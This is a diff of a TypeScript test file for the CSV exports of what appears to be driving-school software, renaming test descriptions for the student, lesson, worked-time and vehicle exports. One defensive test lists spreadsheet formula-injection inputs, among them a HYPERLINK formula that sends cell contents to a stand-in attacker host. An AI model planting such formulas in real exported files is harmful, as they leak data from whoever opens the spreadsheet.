@@ -30,8 +30,8 @@ function rowsOf(text: string, delimiter = ';'): readonly Record<string, string>[
   return parse(text, { bom: true, columns: true, delimiter, cast })
 }
 
-describe('the students as a file', () => {
-  it('are the same as in the API, and can be imported again', async () => {
+describe('GET /exports/students.csv', () => {
+  it('returns the same students as the API, in a file that can be imported', async () => {
     const { id: instructor } = await school.instructor()
     const templates: { id: string; code: string }[] = (await school.client.get('/license-class-templates'))
       .body
@@ -85,7 +85,7 @@ describe('the students as a file', () => {
   })
 
   it.each(['=1+1', '+1', '-1', '@SUM(A1)', '＝1', '=HYPERLINK("https://evil.example?"&A1)'])(
-    'has nothing that a spreadsheet evaluates: %s',
+    'escapes the formula %s for spreadsheets',
     async (formula) => {
       await school.student({ first_name: formula, last_name: formula, notes: formula })
       const [row] = parse((await fileOf('/exports/students.csv')).text, {
@@ -97,7 +97,7 @@ describe('the students as a file', () => {
     },
   )
 
-  it("follows the school's conventions", async () => {
+  it('uses the language and delimiter of the school', async () => {
     const english = await aSchool(service(), { locale: 'en', country: 'GB', timezone: 'Europe/London' })
     await english.student()
     const { text } = await fileOf('/exports/students.csv', english)
@@ -107,7 +107,7 @@ describe('the students as a file', () => {
     expect(rowsOf(text, ',')).toMatchObject([{ 'First name': 'Lena', 'Last name': 'Vogt' }])
   })
 
-  it('has all of them, even beyond one page, but no deleted ones and none of another school', async () => {
+  it('returns all 1,001 students, but no deleted ones and none of another school', async () => {
     await (await aSchool(service())).student({ last_name: 'Fremd' })
     const { id } = await school.student({ last_name: 'Weg' })
     await school.client.delete(`/students/${id}`)
@@ -118,8 +118,8 @@ describe('the students as a file', () => {
   })
 })
 
-describe('lessons and worked time as files', () => {
-  it('are those that start in the period', async () => {
+describe('the exports of lessons and worked time', () => {
+  it('cover the lessons that start in the period', async () => {
     const jonas = await school.instructor()
     const eva = await school.instructor({ first_name: 'Eva', last_name: 'Adler' })
     const student = await school.student()
@@ -169,7 +169,7 @@ describe('lessons and worked time as files', () => {
     ])
   })
 
-  it.each(['appointments', 'worked-time'])('%s needs a period', async (name) => {
+  it.each(['appointments', 'worked-time'])('return 400 for %s without a valid period', async (name) => {
     const { status, body } = await school.client.get(`/exports/${name}.csv`)
     expect([status, body.errors.length]).toEqual([400, 2])
     const order = await school.client.get(`/exports/${name}.csv?from=2026-05-02&to=2026-05-01`)
@@ -177,8 +177,8 @@ describe('lessons and worked time as files', () => {
   })
 })
 
-describe('vehicles and opening balances as files', () => {
-  it('have a line for each vehicle, and for each entry of a balance', async () => {
+describe('the exports of vehicles and opening balances', () => {
+  it('have a row for each vehicle and each entry of a balance', async () => {
     const golf = {
       name: 'Golf; 8',
       kind: 'car',
